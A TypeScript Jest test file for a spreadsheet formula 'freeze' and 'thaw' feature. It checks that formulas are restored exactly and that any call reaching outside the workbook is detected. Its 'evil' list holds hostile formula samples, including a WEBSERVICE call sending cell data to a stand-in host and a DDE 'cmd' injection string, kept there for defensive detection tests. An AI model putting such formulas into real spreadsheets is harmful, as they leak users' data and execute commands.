import ExcelJS from "exceljs";
import fc from "fast-check";
import { freeze } from "../../../src/actions/freeze/freeze.ts";
import { thaw } from "../../../src/actions/freeze/thaw.ts";
import { storedSpelling } from "../../../src/formula/lof-calls.ts";
import { withStoredNames } from "../../../src/formula/newer-functions.ts";
import { outsideReach } from "../../../src/formula/outside-reach.ts";
import { openXlsx } from "../../fixtures/checked-xlsx.ts";
import { BookModel } from "../../fixtures/book-model.ts";
import { openForeign } from "../../fixtures/foreign-book.ts";
import { MemoryPort } from "../../fixtures/memory-port.ts";
import { builtFormula } from "../../formula/any-formula.ts";

jest.setTimeout(600_000);
/** A quick share with every run of the tests; `LOF_FORMULAS=20000 npx jest test/actions/freeze/formula-kinds` tries more. */
const count = Number(process.env["LOF_FORMULAS"] ?? 900);
const seed = Number(process.env["LOF_SEED"] ?? Date.now() % 1e9);
const workbook = { kind: "workbook" } as const;
const options = { edition: "2026-01-15", date: "2026-03-02" };

const formulas = [...new Set(fc.sample(builtFormula, { seed, numRuns: count }).map(({ formula }) => formula))];
const ours = formulas.filter((formula) => outsideReach(formula) === null);
const inLine = (all: readonly (string | null)[]): string => JSON.stringify({ seed, all });

test("most of the formulas tried keep to their workbook, and some do not", () => {
  expect(ours.length).toBeGreaterThan(formulas.length / 6);
  expect(ours.length).toBeLessThan(formulas.length);
});

test("formulas of every kind come back letter by letter; what refers to another book is never frozen", async () => {
  const book = new BookModel(new Map(formulas.map((formula, i) => [formula, [[i]]])));
  // Several sheets: the model looks through a whole sheet for every cell.
  const sheets = Array.from({ length: Math.ceil(formulas.length / 50) }, (_, s) => book.add(`Sheet ${s}`));
  formulas.forEach((formula, i) => sheets[Math.floor(i / 50)]?.put(i % 50, 0, { formula }));
  const held = () => sheets.flatMap((sheet) => [...sheet.held.values()].map(({ formula }) => formula));
  const { frozen, left } = await freeze(new MemoryPort(book), workbook, options);
  const ends = (all: readonly { formula: string }[]) => all.map(({ formula }) => formula).sort();
  expect(inLine(ends(frozen))).toBe(inLine([...ours].sort()));
  expect(new Set(left.map(({ why }) => why.kind))).toEqual(new Set(["unsafe"]));
  expect(held().filter((formula) => formula !== null)).toHaveLength(formulas.length - ours.length);
  expect((await thaw(new MemoryPort(book), workbook)).left).toEqual([]);
  expect(inLine(held())).toBe(inLine(formulas));
});

test("through a file too, saved and opened before and after", async () => {
  const made = new ExcelJS.Workbook();
  const sheet = made.addWorksheet("Kent");
  formulas.forEach((formula, i) => {
    sheet.getCell(i + 1, 1).value = { formula: withStoredNames(storedSpelling(formula)).slice(1), result: i };
  });
  const live = await openForeign(made);
  const column = async (of: typeof live) => (await of.port.read("Kent")).formulas.map(([formula]) => formula ?? null);
  const before = await column(live);
  const { frozen } = await freeze(live.port, workbook, options);
  expect(frozen.length).toBeGreaterThan(formulas.length / 6);
  const sent = await openXlsx(await live.bytes());
  expect((await column(sent)).filter((formula) => formula === null)).toHaveLength(frozen.length);
  expect((await thaw(sent.port, workbook)).left).toEqual([]);
  expect(inLine(await column(await openXlsx(await sent.bytes())))).toBe(inLine(before));
});

const evil = fc.constantFrom(
  'WEBSERVICE("https://x.invalid/?"&A1)',
  "_xlfn.webservice(A1#)",
  "HYPERLINK(A1)",
  "IMAGE(A1)",
  "RTD(A1,A1,A1)",
  "OTHER.FUNCTION(1)",
  "Macro1()",
  "cmd|'/c calc'!A1",
  "'https://x.invalid/[b.xlsx]S'!A1",
  "LET(w,WEBSERVICE,w(A1))",
  "(name)(A1)",
  "CALL(A1,A1)",
);

test("one call that reaches out is found wherever it stands in a formula", () => {
  fc.assert(
    fc.property(builtFormula, evil, fc.nat(), ({ formula, args }, call, at) => {
      const given = [...args];
      given.splice(at % (given.length + 1), 0, call);
      for (const one of [
        `=IFERROR(LOF.METRIC(${given.join(",")}),0)`,
        `${formula}&${call}`,
        `=${call}&${formula.slice(1)}`,
        `=@ ${call}\n+LOF.METRIC(A1,B1)`,
      ])
        expect([one, outsideReach(one)]).not.toEqual([one, null]);
    }),
    { seed },
  );
});
